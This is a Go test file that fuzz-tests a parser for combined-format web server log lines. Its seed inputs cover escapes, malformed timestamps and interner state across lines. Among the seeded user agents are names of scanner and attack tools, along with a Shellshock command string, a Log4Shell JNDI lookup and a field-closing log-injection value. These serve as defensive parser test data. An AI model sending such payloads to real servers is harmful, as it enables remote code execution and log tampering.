package logfmt

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// fuzzInterner is shared by every input of a fuzz run, as a Reader's is by
// every line of a log: chunks roll over, the day memo carries from one
// input to the next, and the small table starts over often.
var fuzzInterner = NewInterner(256)

// FuzzParseCombinedBytes holds the byte parser to the string parser on
// arbitrary lines: both accept or both reject, and an accepted line reads
// the same field for field, to the instant and the zone offset — through
// the long-lived interner and through none.
func FuzzParseCombinedBytes(f *testing.F) {
	for _, c := range fastPathCases {
		f.Add([]byte(c.line))
	}
	for _, l := range corpusLines {
		f.Add([]byte(l))
	}
	const stamp = "11/Mar/2018:06:25:14 +0000"
	quoted := func(request, referer, ua string) string {
		return fmt.Sprintf(`10.0.0.1 - - [%s] "%s" 200 5 "%s" "%s"`, stamp, request, referer, ua)
	}
	// Escapes at every quoted-field position, alone and together.
	for _, esc := range []string{`\"`, `\\`, `\n`, `\t`, `\x16`, `\`, `\\\"`, `a\"b\\c`} {
		f.Add([]byte(quoted("GET /"+esc+" HTTP/1.1", "-", "UA")))
		f.Add([]byte(quoted("GET / HTTP/1.1", "/from"+esc, "UA")))
		f.Add([]byte(quoted("GET / HTTP/1.1", "-", "UA"+esc)))
		f.Add([]byte(quoted(esc, esc, esc)))
	}
	// Unterminated fields, with and without a backslash before the end.
	for _, line := range []string{
		quoted("GET / HTTP/1.1", "-", "UA"),
		quoted("GET / HTTP/1.1", "-", `U\"A`),
		quoted(`GET /\\ HTTP/1.1`, `\\-`, "UA"),
	} {
		for cut := 1; cut <= 4; cut++ {
			f.Add([]byte(line[:len(line)-cut]))
		}
		f.Add([]byte(line + `\`))
		f.Add([]byte(line[:len(line)-1] + `\`))
		f.Add([]byte(line[:len(line)-1] + `\"`))
	}
	// Timestamps and numbers time.Parse and strconv would wave through.
	for _, s := range []string{
		"11/mar/2018:06:25:14 +0000", "11/Mar/2018:06:25:14.5 +0000", "11/Mar/2018:6:25:14.5 +0000",
		"11/Mar/2018:06:25:14 +2400", "11/Mar/2018:06:25:14 +0060", "11/Mar/2018:06:25:14 -0000",
		"00/Mar/2018:06:25:14 +0000", "11/Mar/0000:06:25:14 +0000",
	} {
		f.Add([]byte(strings.Replace(quoted("GET / HTTP/1.1", "-", "UA"), stamp, s, 1)))
	}
	for _, n := range []string{"+200 5", "200 +5", "200 -0", "0200 05", "200 9223372036854775807", "200 999999999999999999"} {
		f.Add([]byte(strings.Replace(quoted("GET / HTTP/1.1", "-", "UA"), "200 5", n, 1)))
	}
	// Scanner and attack-tool agents (SNIPPETS.md §3), the missing agent,
	// and agents that try to close the field or smuggle a second line.
	for _, ua := range []string{
		"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "sqlmap/1.7.2#stable (https://sqlmap.org)",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
		"Nessus SOAP", "Acunetix-Product", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
		"gobuster/3.6", "Mozilla/4.0 (Hydra)", "Mozilla/5.0 (compatible; MSIE 9.0; Metasploit)", "Burp Suite Professional",
		"", "-", `\" 200 0 \"-\" \"spoofed`, `() { :; }; /bin/bash -c \"id\"`, "${jndi:ldap://x/a}", `a\nb`, strings.Repeat("A", 5000),
	} {
		f.Add([]byte(quoted("GET / HTTP/1.1", "-", ua)))
	}

	f.Fuzz(func(t *testing.T, line []byte) {
		checkAgainstOracle(t, line, fuzzInterner)
	})
}

// checkAgainstOracle parses line through in and through no interner and
// holds both to the string parser: both accept or both reject, with the
// same error text, and an accepted line reads the same field for field, to
// the instant and the zone offset.
func checkAgainstOracle(t *testing.T, line []byte, in *Interner) {
	t.Helper()
	want, wantErr := ParseCombined(string(line))
	for _, in := range []*Interner{in, nil} {
		var got Entry
		err := ParseCombinedBytes(line, &got, in)
		if (err == nil) != (wantErr == nil) {
			t.Fatalf("interner %v, %q: byte parser error %v, string parser error %v", in != nil, line, err, wantErr)
		}
		if err != nil {
			if err.Error() != wantErr.Error() {
				t.Fatalf("interner %v, %q: byte parser error %q, string parser error %q", in != nil, line, err, wantErr)
			}
			continue
		}
		if !got.Equal(&want) {
			t.Fatalf("interner %v, %q:\n bytes:  %+v\n string: %+v", in != nil, line, got, want)
		}
		_, gotOff := got.Time.Zone()
		_, wantOff := want.Time.Zone()
		if !got.Time.Equal(want.Time) || gotOff != wantOff {
			t.Fatalf("interner %v, %q: time %v (offset %d), want %v (offset %d)", in != nil, line, got.Time, gotOff, want.Time, wantOff)
		}
	}
}

// FuzzParseCombinedLines parses its input's lines in order through one
// fresh, small interner, as a Reader parses a log: each address's table
// entry remembers an agent it sent, so a line's result depends on
// the lines before it — an agent repeated, changed, changed back, sent
// from the constant "-", or met after the table started over. Every line
// is held to the string parser, which has no such memory.
func FuzzParseCombinedLines(f *testing.F) {
	const stamp = "11/Mar/2018:06:25:14 +0000"
	line := func(addr, referer, ua string) string {
		return fmt.Sprintf(`%s - - [%s] "GET / HTTP/1.1" 200 5 "%s" "%s"`, addr, stamp, referer, ua)
	}
	lines := func(ls ...string) []byte { return []byte(strings.Join(ls, "\n")) }
	// One address sending A, A, B, A.
	f.Add(lines(line("10.0.0.1", "-", "A"), line("10.0.0.1", "-", "A"), line("10.0.0.1", "-", "B"), line("10.0.0.1", "-", "A")))
	// An address switching agent on every line, beside a steady one.
	var rotating []string
	for i := 0; i < 8; i++ {
		rotating = append(rotating, line("10.0.0.2", "-", fmt.Sprintf("agent/%d", i%3)), line("10.0.0.3", "-", "steady"))
	}
	f.Add(lines(rotating...))
	// "-" as the address, which has no table entry to remember in.
	f.Add(lines(line("-", "-", "A"), line("-", "-", "B"), line("-", "-", "A"), line("10.0.0.1", "-", "A")))
	// An escape in the agent only, then in the referer only: the line's
	// no-escape flag either way, around the same client's plain lines.
	f.Add(lines(line("10.0.0.4", "-", "A"), line("10.0.0.4", "-", `A\"B`), line("10.0.0.4", `/r\"x`, "A"),
		line("10.0.0.4", "-", `A"B`), line("10.0.0.4", "-", "A")))
	// A ']' where a valid stamp ends, behind an invalid stamp; stamps a
	// byte short and a byte long.
	for _, s := range []string{"11/Mxr/2018:06:25:14 +0000", "11/Mar/2018:06:25:14 +000", "11/Mar/2018:06:25:14 +00000", "11/Mar/2018:06:25:1] +0000"} {
		f.Add(lines(line("10.0.0.5", "-", "A"), strings.Replace(line("10.0.0.5", "-", "B"), stamp, s, 1), line("10.0.0.5", "-", "B")))
	}
	// More distinct strings than the table holds: it starts over mid-input
	// while early addresses come back with and without their agent.
	var crowd []string
	for i := 0; i < 300; i++ {
		crowd = append(crowd, line(fmt.Sprintf("10.1.%d.%d", i/250, i%250), "-", fmt.Sprintf("crowd/%d", i%5)))
	}
	for i := 0; i < 10; i++ {
		crowd = append(crowd, line(fmt.Sprintf("10.1.0.%d", i), "-", fmt.Sprintf("crowd/%d", i%2)))
	}
	f.Add(lines(crowd...))

	f.Fuzz(func(t *testing.T, data []byte) {
		in := NewInterner(256)
		for _, l := range bytes.Split(data, []byte("\n")) {
			checkAgainstOracle(t, l, in)
		}
	})
}
